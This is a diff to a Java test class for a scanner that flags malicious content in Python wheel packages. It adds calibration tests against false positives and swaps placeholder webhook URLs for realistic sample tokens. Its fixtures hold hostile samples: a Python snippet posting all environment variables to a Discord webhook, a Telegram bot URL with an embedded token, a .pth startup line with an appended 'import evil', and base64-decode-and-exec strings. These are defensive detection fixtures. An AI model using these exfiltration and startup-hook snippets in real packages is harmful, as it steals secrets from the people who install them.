@@ -209,7 +209,7 @@ class ContentRuleTest {
       String hidden = """
           import os, requests
           URL = (
-              "https://discord.com/api/webhooks/1/x"
+              "https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789"
           )
           for k, v in os.environ.items():
               requests.post(URL, data=k + v)
@@ -243,6 +243,76 @@ class ContentRuleTest {
     void aSetupPyInsideAWheelIsNotInstallTimeCode() {
       assertThat(check(wheelWith("pkg/setup.py", "import os\nos.system('make')\n")))
           .isEmpty();
+    }
+
+    // Calibration on 966 wheels downloaded from PyPI (docs/content-rules.md), one test each.
+
+    @Test
+    void aMethodNamedExecIsNotDynamicExecution() {
+      String tests = "class Cursor:\n    def exec(self, *args):\n        return args\n"
+          + "DATA = bytes([" + "1, ".repeat(30) + "1])\n";
+
+      assertThat(check(wheelWith("apsw/tests/ftstests.py", tests))).isEmpty();
+    }
+
+    @Test
+    void chrOfAVariableIsNotACharacterChain() {
+      String escapes = "exec('from _accel import %s as f' % fn, D)\n"
+          + "for c in range(32):\n    ESC[c] = chr(c)\n".repeat(15);
+
+      assertThat(check(wheelWith("reportlab/lib/rl_accel.py", escapes))).isEmpty();
+    }
+
+    @Test
+    void aPemCertificateIsNotAnEncodedPayload() {
+      String pem = "-----BEGIN CERTIFICATE-----\n" + "MIIDdzCCAl+gAwIBAgIEbbbbbbb\n".repeat(60)
+          + "-----END CERTIFICATE-----\n";
+      String test = "CERT = \"\"\"" + pem + "\"\"\"\nassert eval(repr(cipher), {}) == cipher\n";
+
+      assertThat(check(wheelWith("twisted/test/test_sslverify.py", test))).isEmpty();
+    }
+
+    @Test
+    void aChatApiAddressWithoutACredentialIsNotADropBox() {
+      String api = "API = 'https://api.telegram.org/bot'\n"
+          + "def send(token, chat, text):\n    return requests.post(f'{API}{token}/sendMessage')\n";
+      String stolen = "URL = 'https://api.telegram.org/bot5012345678:AAH-sample-token-not-real-xyz'\n";
+
+      assertThat(check(wheelWith("tqdm/contrib/telegram.py", api))).isEmpty();
+      assertThat(check(wheelWith("pkg/x.py", stolen))).extracting(Finding::level)
+          .containsExactly(RiskLevel.HIGH);
+    }
+
+    @Test
+    void onlyATopLevelSitecustomizeRunsAtStartUp() {
+      String hook = "import os\n";
+
+      assertThat(check(wheelWith(
+          "debugpy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py", hook))).isEmpty();
+      assertThat(check(wheelWith("sitecustomize.py", hook))).extracting(Finding::level)
+          .containsExactly(RiskLevel.HIGH);
+    }
+
+    @Test
+    void setuptoolsNamespacePackageLinesAreNotStartUpCode() {
+      String nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
+          + "sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and"
+          + " __import__('importlib.util');has_mfs and __import__('importlib.machinery');m ="
+          + " has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec("
+          + "importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m ="
+          + " m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp ="
+          + " (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and"
+          + " mp.append(p)\n";
+      String older = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'],"
+          + " *('zope',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and"
+          + " sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and"
+          + " m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
+      String appended = nspkg.strip() + ";import evil\n";
+
+      assertThat(check(wheelWith("sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth", nspkg))).isEmpty();
+      assertThat(check(wheelWith("zope.interface-5.0-py3.8-nspkg.pth", older))).isEmpty();
+      assertThat(check(wheelWith("x-nspkg.pth", appended))).extracting(Finding::level)
+          .contains(RiskLevel.HIGH);
     }
 
     @Test
@@ -299,7 +369,7 @@ class ContentRuleTest {
     String quotes = "'a' ".repeat(500_000);
     String oneLongLine = "x = \"" + "A".repeat(3_000_000) + "\"\neval(x)\n";
     String unclosed = "'''" + "exec(base64.b64decode(p))\n".repeat(100_000);
-    String nested = "(".repeat(1_000_000) + "'https://discord.com/api/webhooks/1/x'";
+    String nested = "(".repeat(1_000_000) + "'https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789'";
 
     org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(60),
         () -> {
